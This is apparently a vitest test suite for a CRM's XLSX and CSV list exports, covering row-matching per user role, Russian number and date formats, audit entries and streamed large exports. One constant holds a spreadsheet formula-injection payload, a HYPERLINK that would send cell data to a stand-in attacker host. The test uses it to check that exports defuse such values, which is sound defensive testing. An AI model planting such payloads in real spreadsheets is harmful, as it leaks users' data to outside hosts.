/**
 * List exports (`GET /api/<list>?…&format=xlsx|csv`) on both databases: for each of the six lists, each caller
 * (a manager, his department's head, the admin) and a filter, the file holds exactly the rows the JSON list returns
 * for the same filters and caller, in the same order; read back with exceljs (numbers are numbers, dates are dates)
 * and csv-parse (decimal commas, ДД.ММ.ГГГГ); the formula-injection guard; a bad format → 400 naming `format`;
 * one audit entry per export; and a 3,000-deal export that is streamed with backpressure.
 */
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import type { Readable } from 'node:stream';
import { beforeAll, expect, it } from 'vitest';
import { describeEachDialect, type Harness, type TestClient } from '../../test/harness.js';
import { testCompany } from '../invoices/fixtures.js';
import { runDemo } from '../demo/demo.js';

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Жми")';

async function readXlsx(buf: Buffer): Promise<ExcelJS.Worksheet[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as any);
  return wb.worksheets;
}

/** The sheet as header names and rows of cells (exceljs values; Dates for date cells). */
function table(ws: ExcelJS.Worksheet): { header: string[]; rows: ExcelJS.CellValue[][] } {
  const header = (ws.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String);
  const rows: ExcelJS.CellValue[][] = [];
  ws.eachRow((row, n) => {
    if (n > 1) rows.push(header.map((_, i) => row.getCell(i + 1).value));
  });
  return { header, rows };
}

function readCsv(buf: Buffer): { header: string[]; rows: string[][] } {
  expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(buf.toString('utf8')).toContain('\r\n');
  const all = parse(buf, { delimiter: ';', bom: true, relax_column_count: false }) as string[][];
  return { header: all[0], rows: all.slice(1) };
}

/** Every item of a JSON list (small pages, so the walk crosses cursors). */
async function allItems(who: TestClient, path: string, query: string): Promise<any[]> {
  const items: any[] = [];
  let cursor: string | null = null;
  do {
    const url: string = `${path}?${query}${query ? '&' : ''}limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
    const res: { status: number; body: any } = await who.get(url);
    expect(res.status, `${url}: ${JSON.stringify(res.body)}`).toBe(200);
    items.push(...res.body.items);
    cursor = res.body.nextCursor;
  } while (cursor);
  return items;
}

async function exportCount(h: Harness, userId: string, entity: string): Promise<number> {
  const r = await h.server.ctx.db
    .selectFrom('audit_log')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .where('action', '=', 'export')
    .where('user_id', '=', userId)
    .where('entity', '=', entity)
    .executeTakeFirstOrThrow();
  return Number(r.n);
}

interface ListCase {
  path: string;
  entity: string;
  /** The column the rows are matched by, and the JSON item's value for it. */
  key: string;
  keyOf: (item: any) => string;
  /** A filter to try besides none. */
  filter: () => string;
}

describeEachDialect('list exports: the file holds what the list shows', (h) => {
  let m1: TestClient;
  let m2: TestClient;
  let head: TestClient;
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    expect((await h.admin.put('/api/settings/company', testCompany())).status).toBe(200);
    const dept = await h.department('Отдел продаж');
    head = dept.head;
    m1 = await h.user('manager', { departmentId: dept.id, name: 'Иван Первый' });
    m2 = await h.user('manager', { name: 'Пётр Второй' });

    const mk = async (who: TestClient, name: string, region: string) => {
      const c = await who.post('/api/clients', { kind: 'company', name, region, phones: ['+7 999 000-00-0' + Object.keys(ids).length] });
      expect(c.status, JSON.stringify(c.body)).toBe(201);
      ids[name] = c.body.id;
      return c.body.id as string;
    };
    const evil = await mk(m1, EVIL, 'Москва');
    const alfa = await mk(m1, 'ООО «Альфа»', 'Казань');
    const beta = await mk(m2, 'ООО «Бета»', 'Москва');

    const deal = async (who: TestClient, clientId: string, title: string, price: number) => {
      const d = await who.post('/api/deals', { clientId, title, items: [{ name: 'Услуга', quantity: 1, price, vatRate: 22 }] });
      expect(d.status, JSON.stringify(d.body)).toBe(201);
      ids[title] = d.body.id;
      return d.body.id as string;
    };
    const d1 = await deal(m1, evil, 'Поставка -1', 123456);
    const d2 = await deal(m1, alfa, 'Монтаж', 50000);
    const d3 = await deal(m2, beta, 'Обслуживание', 99999);
    for (const [who, d] of [
      [m1, d1],
      [m1, d2],
      [m2, d3],
    ] as const)
      expect((await who.post(`/api/deals/${d}/invoices`)).status).toBe(201);

    const task = async (who: TestClient, title: string, clientId: string, dealId: string) =>
      expect((await who.post('/api/tasks', { title, type: 'call', dueAt: '2026-12-20T10:00:00+03:00', clientId, dealId })).status).toBe(
        201,
      );
    await task(m1, 'Позвонить Альфе', alfa, d2);
    await task(m1, '+Перезвонить', evil, d1);
    await task(m2, 'Позвонить Бете', beta, d3);

    for (const [name, who] of [
      ['Лид один', m1],
      ['Лид два', m1],
      ['Лид три', m2],
    ] as const) {
      const l = await h.admin.post('/api/leads', { name, phone: '+79990001122', assigneeId: who.user!.id });
      expect(l.status, JSON.stringify(l.body)).toBe(201);
    }

    for (const [who, clientId, dealId, rating, text] of [
      [m1, evil, d1, 5, 'Отлично'],
      [m1, alfa, null, 2, '-Плохо'],
      [m2, beta, d3, 4, 'Хорошо'],
    ] as const) {
      const r = await who.post('/api/reviews', { clientId, dealId, rating, text });
      expect(r.status, JSON.stringify(r.body)).toBe(201);
    }
  });

  const lists: ListCase[] = [
    { path: '/api/clients', entity: 'client', key: 'Название', keyOf: (c) => c.name, filter: () => 'region=Москва' },
    { path: '/api/deals', entity: 'deal', key: 'Сделка', keyOf: (d) => d.title, filter: () => 'status=open&q=а' },
    { path: '/api/tasks', entity: 'task', key: 'Задача', keyOf: (t) => t.title, filter: () => 'type=call&status=open' },
    { path: '/api/leads', entity: 'lead', key: 'Имя', keyOf: (l) => l.name, filter: () => 'status=new' },
    { path: '/api/invoices', entity: 'invoice', key: '№ счёта', keyOf: (i) => i.number, filter: () => `clientId=${ids['ООО «Альфа»']}` },
    { path: '/api/reviews', entity: 'review', key: 'Отзыв', keyOf: (r) => r.text, filter: () => 'sentiment=positive' },
  ];

  for (const list of lists) {
    it(`${list.path}: XLSX and CSV hold exactly the JSON list's rows, per caller and filter; each export audited`, async () => {
      const callers: [string, TestClient][] = [
        ['manager', m1],
        ['head', head],
        ['other manager', m2],
        ['admin', h.admin],
      ];
      for (const [role, who] of callers) {
        for (const query of ['', list.filter()]) {
          const expected = (await allItems(who, list.path, query)).map(list.keyOf);
          for (const format of ['xlsx', 'csv'] as const) {
            const before = await exportCount(h, who.user!.id, list.entity);
            const res = await who.get(`${list.path}?${query}${query ? '&' : ''}format=${format}`);
            expect(res.status, `${role} ${list.path}?${query} ${format}`).toBe(200);
            expect(res.headers['content-type']).toContain(format === 'xlsx' ? 'spreadsheetml' : 'text/csv');
            expect(res.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename=".*\\.${format}"; filename\\*=UTF-8''`));
            const data = format === 'xlsx' ? table((await readXlsx(res.raw.rawPayload))[0]) : readCsv(res.raw.rawPayload);
            const col = data.header.indexOf(list.key);
            expect(col, data.header.join('|')).toBeGreaterThanOrEqual(0);
            // Totals row of the invoice register (XLSX) is not a row of the list.
            const rows = list.entity === 'invoice' && format === 'xlsx' ? data.rows.slice(0, -1) : data.rows;
            const got = rows.map((r) => String(r[col] ?? '').replace(/^'/, ''));
            expect(got, `${role} ${list.path}?${query} ${format}`).toEqual(expected);
            expect(await exportCount(h, who.user!.id, list.entity)).toBe(before + 1);
          }
        }
      }
      // The scope: a manager sees only his own rows, the head his department's, which the admin sees too.
      const m1Rows = await allItems(m1, list.path, '');
      const m2Rows = await allItems(m2, list.path, '');
      const headRows = await allItems(head, list.path, '');
      expect(m1Rows.length).toBeGreaterThan(0);
      expect(headRows.map(list.keyOf).sort()).toEqual(m1Rows.map(list.keyOf).sort());
      expect(m2Rows.map(list.keyOf).some((k) => m1Rows.map(list.keyOf).includes(k))).toBe(false);
    });
  }

  it('deals: money is a number in roubles with a ₽ format, dates are date cells, names not ids; CSV in the Russian dialect', async () => {
    const res = await h.admin.get('/api/deals?format=xlsx');
    const ws = (await readXlsx(res.raw.rawPayload))[0];
    const { header, rows } = table(ws);
    expect(header).toEqual([
      'Сделка',
      'Клиент',
      'Сумма, ₽',
      'Этап',
      'Статус',
      'Ответственный',
      'Источник',
      'Комментарий к проигрышу',
      'Дата создания',
      'Дата закрытия',
    ]);
    const r = rows.find((x) => x[0] === 'Поставка -1')!;
    expect(r[1]).toBe(`'${EVIL}`);
    expect(r[2]).toBe(1234.56);
    expect(ws.getRow(rows.indexOf(r) + 2).getCell(3).numFmt).toContain('₽');
    expect(typeof r[3]).toBe('string');
    expect(r[5]).toBe('Иван Первый');
    expect(r[8]).toBeInstanceOf(Date);
    expect(ws.getRow(rows.indexOf(r) + 2).getCell(9).numFmt).toBe('dd.mm.yyyy');
    expect(ws.getRow(rows.indexOf(r) + 2).getCell(9).type).toBe(ExcelJS.ValueType.Date);
    expect(ws.getRow(rows.indexOf(r) + 2).getCell(3).type).toBe(ExcelJS.ValueType.Number);

    const csv = readCsv((await h.admin.get('/api/deals?format=csv')).raw.rawPayload);
    const c = csv.rows.find((x) => x[0] === 'Поставка -1')!;
    expect(c[2]).toBe('1234,56');
    expect(c[5]).toBe('Иван Первый');
    expect(c[8]).toMatch(/^\d{2}\.\d{2}\.\d{4}$/);
  });

  it('clients, tasks, invoices: the owner, client and deal by name; the invoice register ends with SUM totals', async () => {
    const clients = table((await readXlsx((await h.admin.get('/api/clients?format=xlsx')).raw.rawPayload))[0]);
    const owner = clients.header.indexOf('Ответственный');
    expect(clients.rows.find((r) => r[0] === 'ООО «Бета»')![owner]).toBe('Пётр Второй');
    expect(clients.header).toContain('ИНН');
    expect(clients.header).toContain('Телефон');

    const tasks = readCsv((await m1.get('/api/tasks?format=csv')).raw.rawPayload);
    const t = tasks.rows.find((r) => r[0] === "'+Перезвонить")!;
    expect(t[tasks.header.indexOf('Клиент')]).toBe(`'${EVIL}`);
    expect(t[tasks.header.indexOf('Сделка')]).toBe('Поставка -1');
    expect(t[tasks.header.indexOf('Ответственный')]).toBe('Иван Первый');
    expect(t[tasks.header.indexOf('Срок')]).toBe('20.12.2026 10:00');

    const ws = (await readXlsx((await m1.get('/api/invoices?format=xlsx')).raw.rawPayload))[0];
    const inv = table(ws);
    const total = inv.header.indexOf('Сумма, ₽');
    const last = inv.rows[inv.rows.length - 1];
    expect(last[0]).toBe('Итого (2)');
    expect(last[total]).toMatchObject({ formula: 'SUM(G2:G3)', result: 1734.56 });
  });

  it('formula injection: a client named =HYPERLINK(…) is guarded text in XLSX and CSV, never a formula', async () => {
    const ws = (await readXlsx((await m1.get('/api/clients?format=xlsx')).raw.rawPayload))[0];
    const cells: ExcelJS.Cell[] = [];
    ws.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const evil = cells.find((c) => String(c.value).includes('HYPERLINK'))!;
    expect(evil.type).toBe(ExcelJS.ValueType.String);
    expect(evil.value).toBe(`'${EVIL}`);
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
    const csv = readCsv((await m1.get('/api/clients?format=csv')).raw.rawPayload);
    expect(csv.rows.map((r) => r[0])).toContain(`'${EVIL}`);
    expect(csv.rows.flat().some((c) => /^[=+\-@]/.test(c))).toBe(false);
  });

  it('a bad format is 400 naming the field, on every list; JSON stays the default', async () => {
    for (const list of lists) {
      const res = await h.admin.get(`${list.path}?format=pdf`);
      expect(res.status, list.path).toBe(400);
      expect(res.body.error.fields.format, list.path).toMatch(/xlsx/);
      const json = await h.admin.get(`${list.path}?format=json&limit=1`);
      expect(json.status).toBe(200);
      expect(Object.keys(json.body).sort()).toEqual(['items', 'nextCursor']);
    }
    // A filter error before the first byte is still the JSON contract.
    const bad = await h.admin.get('/api/deals?format=xlsx&from=2026-13-01');
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields.from).toBeTruthy();
  });

  it('the file name is Russian (RFC 5987) with an ASCII fallback', async () => {
    const res = await h.admin.get('/api/clients?format=xlsx');
    const cd = String(res.headers['content-disposition']);
    const star = decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(cd)![1]);
    expect(star).toMatch(/^Клиенты \d{2}\.\d{2}\.\d{4}\.xlsx$/);
    expect(cd).toMatch(/filename="clients-\d{4}-\d{2}-\d{2}\.xlsx"/);
  });

  it('OpenAPI describes the format parameter and the file responses of every list', async () => {
    const doc = (await h.anon.get('/api/openapi.json')).body;
    for (const list of lists) {
      const op = doc.paths[list.path].get;
      const format = op.parameters.find((p: any) => p.name === 'format');
      expect(format?.schema?.enum, list.path).toEqual(['json', 'xlsx', 'csv']);
      expect(Object.keys(op.responses['200'].content).sort(), list.path).toEqual([
        'application/json',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        'text/csv',
      ]);
    }
  });
});

describeEachDialect('list exports: a large export is streamed', (h) => {
  beforeAll(async () => {
    await runDemo(h.server.ctx, { clients: 300, deals: 3000, seed: 3, users: 4, now: new Date(Date.UTC(2026, 11, 1)) });
  }, 120_000);

  it('3,000 deals as XLSX: every row, in several chunks', async () => {
    const res = await h.server.app.inject({
      method: 'GET',
      url: '/api/deals?format=xlsx',
      headers: { cookie: h.admin.cookie! },
      payloadAsStream: true,
    });
    expect(res.statusCode).toBe(200);
    const chunks: Buffer[] = [];
    for await (const c of res.stream() as Readable) chunks.push(c as Buffer);
    expect(chunks.length).toBeGreaterThan(1);
    const sheets = await readXlsx(Buffer.concat(chunks));
    const rows = table(sheets[0]).rows;
    expect(rows.length).toBe(3000);
    expect(rows.every((r) => typeof r[2] === 'number' && r[8] instanceof Date)).toBe(true);
  });

  it('CSV: the reply starts before the list is read, and the writer waits for the reader (backpressure)', async () => {
    const userId = h.admin.user!.id;
    const before = await exportCount(h, userId, 'deal');
    const res = await h.server.app.inject({
      method: 'GET',
      url: '/api/deals?format=csv',
      headers: { cookie: h.admin.cookie! },
      payloadAsStream: true,
    });
    // The headers arrived: the export is running, not finished (its audit entry is written after the last row).
    const stream = res.stream() as Readable;
    const first = await new Promise<Buffer>((resolve) => stream.once('data', (c: Buffer) => (stream.pause(), resolve(c))));
    expect(first.length).toBeGreaterThan(0);
    // Nobody reads now: the writer must stop at the full buffer instead of running to the end of 3,000 rows.
    // Thirty database round trips (more than the export's own 6 pages and its audit insert need): the export has
    // still not finished, and what waits in the reply's buffer is a small part of the file.
    for (let i = 0; i < 30; i++) {
      await new Promise((r) => setImmediate(r));
      expect(await exportCount(h, userId, 'deal')).toBe(before);
    }
    expect(stream.readableLength).toBeLessThan(256 * 1024);
    const rest: Buffer[] = [first];
    for await (const c of stream) rest.push(c as Buffer);
    const all = Buffer.concat(rest);
    expect(all.length).toBeGreaterThan(256 * 1024);
    expect(readCsv(all).rows.length).toBe(3000);
    expect(await exportCount(h, userId, 'deal')).toBe(before + 1);
  });
});
